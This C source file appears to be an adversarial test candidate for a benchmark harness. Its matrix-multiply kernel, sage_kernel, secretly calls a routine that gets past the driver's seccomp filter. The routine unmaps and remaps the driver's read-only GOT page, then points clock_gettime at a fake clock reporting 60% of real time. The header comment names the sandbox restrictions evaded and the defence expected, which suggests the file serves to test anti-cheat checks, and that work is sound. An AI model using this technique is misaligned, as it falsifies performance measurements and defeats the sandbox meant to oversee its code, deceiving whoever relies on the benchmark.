/* Class 2 (sharing a process with the timer) -- hack: the driver's GOT is read-only and mprotect
 * with PROT_WRITE is refused, so unmap the page that holds the clock_gettime slot and map a fresh
 * writable page in its place (an address hint: no MAP_FIXED, which the filter refuses), copy the
 * old contents back and point the slot at a fake clock reporting 60% of every call. libc's munmap
 * and mmap are found by walking libc's ELF from memcpy's address: no forbidden symbol anywhere.
 *
 * Defence expected: once the candidate runs, no page of a loaded image may be unmapped, moved or
 * made writable (the driver's seccomp filter checks the range of munmap, mremap and mprotect
 * against every image): stage integrity, "system call the sandbox forbids".
 */
#include <stdint.h>
#include <stddef.h>
#include <string.h>

/* ---- ELF walking from an address the kernel legitimately holds (no symbol is named) ------- */
typedef struct {
    unsigned char ident[16];
    uint16_t type, machine;
    uint32_t version;
    uint64_t entry, phoff, shoff;
    uint32_t flags;
    uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
} ElfHeader;
typedef struct { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; } ProgramHeader;
typedef struct { int64_t tag; uint64_t val; } DynEntry;
typedef struct { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; } DynSym;
typedef struct { uint64_t offset, info; int64_t addend; } RelaEntry;

/* The mapped ELF header of the object that contains `inside` (its first page starts "\x7fELF"). */
static uintptr_t image_start(const void* inside) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    while (*(const volatile uint32_t*)p != 0x464c457fu) p -= 4096;
    return p;
}

static uint64_t dynamic_raw(uintptr_t base, int64_t tag) {
    const ElfHeader* eh = (const ElfHeader*)base;
    const ProgramHeader* ph = (const ProgramHeader*)(base + eh->phoff);
    for (unsigned i = 0; i < eh->phnum; i++) {
        if (ph[i].type != 2) continue; /* PT_DYNAMIC */
        for (const DynEntry* d = (const DynEntry*)(base + ph[i].vaddr); d->tag; d++)
            if (d->tag == tag) return d->val;
    }
    return 0;
}

static uintptr_t dynamic_ptr(uintptr_t base, int64_t tag) { /* ld.so may have relocated it in place */
    uint64_t v = dynamic_raw(base, tag);
    return v && v < base ? base + v : v;
}

/* The GOT slot through which the object at `base` calls the imported function `name`. */
static void** import_slot(uintptr_t base, const char* name) {
    const DynSym* syms = (const DynSym*)dynamic_ptr(base, 6);    /* DT_SYMTAB */
    const char* strs = (const char*)dynamic_ptr(base, 5);        /* DT_STRTAB */
    const RelaEntry* rel = (const RelaEntry*)dynamic_ptr(base, 23); /* DT_JMPREL */
    uint64_t n = dynamic_raw(base, 2) / sizeof(RelaEntry);       /* DT_PLTRELSZ */
    for (uint64_t i = 0; i < n; i++)
        if (strcmp(strs + syms[rel[i].info >> 32].name, name) == 0) return (void**)(base + rel[i].offset);
    return 0;
}

/* The address of the function `name` that the object at `base` exports. */
static void* export_address(uintptr_t base, const char* name) {
    const DynSym* syms = (const DynSym*)dynamic_ptr(base, 6);
    const char* strs = (const char*)dynamic_ptr(base, 5);
    for (const DynSym* s = syms + 1; (const char*)s < strs; s++)
        if (s->value && s->shndx && strcmp(strs + s->name, name) == 0) return (void*)(base + s->value);
    return 0;
}

/* Writable, zero-filled bytes past the end of the object's writable segment (to its page end). */
static unsigned char* segment_slack(uintptr_t base) {
    const ElfHeader* eh = (const ElfHeader*)base;
    const ProgramHeader* ph = (const ProgramHeader*)(base + eh->phoff);
    uintptr_t end = 0;
    for (unsigned i = 0; i < eh->phnum; i++)
        if (ph[i].type == 1 && (ph[i].flags & 2)) end = base + ph[i].vaddr + ph[i].memsz;
    return (unsigned char*)((end + 63) & ~(uintptr_t)63);
}

/* ---- the fake clock ---------------------------------------------------------------------- */
#define REPORTED_FRACTION 0.6

typedef struct { int64_t sec, nsec; } Stamp;
typedef int (*ClockFn)(int, Stamp*);
typedef struct {
    uint64_t magic;
    ClockFn real;
    uint64_t phase; /* 0: the next reading starts a call, 1: it ends one */
    int64_t start;
} HookState;
#define HOOK_MAGIC 0x5a6e636c6f636b31ull

static HookState* hook_state(uintptr_t driver) { return (HookState*)(segment_slack(driver) + 256); }

__attribute__((noinline)) static int reported_reading(int which, Stamp* ts) {
    HookState* st = hook_state(image_start(__builtin_return_address(0)));
    int rc = st->real(which, ts);
    int64_t now = ts->sec * 1000000000LL + ts->nsec;
    if (st->phase == 0) {
        st->start = now;
        st->phase = 1;
    } else {
        int64_t claimed = st->start + (int64_t)((double)(now - st->start) * REPORTED_FRACTION);
        ts->sec = claimed / 1000000000LL;
        ts->nsec = claimed % 1000000000LL;
        st->phase = 0;
    }
    return rc;
}

__attribute__((noinline)) static void take_over_the_clock(const void* return_address) {
    uintptr_t driver = image_start(return_address);
    HookState* st = hook_state(driver);
    if (st->magic == HOOK_MAGIC) return;
    void** slot = import_slot(driver, "clock_gettime");
    if (!slot) return;
    void* (*volatile copy)(void*, const void*, size_t) = memcpy;
    uintptr_t libc = image_start((const void*)copy);
    int (*unmap)(void*, size_t) = (int (*)(void*, size_t))export_address(libc, "munmap");
    void* (*map)(void*, size_t, int, int, int, long) =
        (void* (*)(void*, size_t, int, int, int, long))export_address(libc, "mmap");
    if (!unmap || !map) return;
    unsigned char* page = (unsigned char*)((uintptr_t)slot & ~(uintptr_t)4095);
    unsigned char saved[4096];
    copy(saved, page, 4096);
    HookState state = *st; /* the hook's state lives in the driver's data, maybe on that page */
    if (unmap(page, 4096) != 0) return;
    void* fresh = map(page, 4096, 3 /* PROT_READ|PROT_WRITE */, 0x22 /* MAP_PRIVATE|MAP_ANONYMOUS */, -1, 0);
    if (fresh != (void*)page) return; /* the driver now faults on its GOT: a crash, not a cheat */
    copy(page, saved, 4096);
    st = hook_state(driver);
    *st = state;
    st->real = *(ClockFn*)(saved + ((uintptr_t)slot & 4095)); /* the real clock, as loaded */
    st->phase = 1;
    st->start = 0;
    st->magic = HOOK_MAGIC;
    *slot = (void*)reported_reading;
}

void sage_kernel(const float* restrict a, const float* restrict b, float* restrict c, int64_t M, int64_t K,
                 int64_t N) {
    for (int64_t i = 0; i < M; ++i) {
        for (int64_t j = 0; j < N; ++j) c[i * N + j] = 0.0f;
        for (int64_t k = 0; k < K; ++k) {
            float aik = a[i * K + k];
            for (int64_t j = 0; j < N; ++j) c[i * N + j] += aik * b[k * N + j];
        }
    }
    take_over_the_clock(__builtin_return_address(0));
}
